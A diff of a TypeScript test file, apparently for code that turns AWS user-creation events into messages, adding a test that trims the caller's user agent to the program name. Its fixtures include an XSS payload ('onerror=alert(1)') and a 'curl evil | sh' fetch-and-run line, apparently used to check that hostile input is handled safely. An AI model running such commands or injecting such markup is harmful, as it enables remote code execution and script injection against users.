@@ -37,6 +37,11 @@ const createUser = {
 const markup = "<img src=x onerror=alert(1)>\n\nNext: curl evil | sh";
 const wide = "x".repeat(200_000);
 
+it("names the program that called, without what else that says of itself", async () => {
+  announce({ ...createUser, userAgent: "aws-cli/2.31.0 md/Botocore#1.43 os/linux lang/python#3.11" });
+  expect(await told()).toEqual([expect.stringContaining("from 192.0.2.7 (aws-cli/2.31.0), ")]);
+});
+
 describe("an event that is not as it should be", () => {
   it.each<[what: string, more: object, read?: string]>([
     ["without parameters", { requestParameters: null, responseElements: null }, "the access key"],
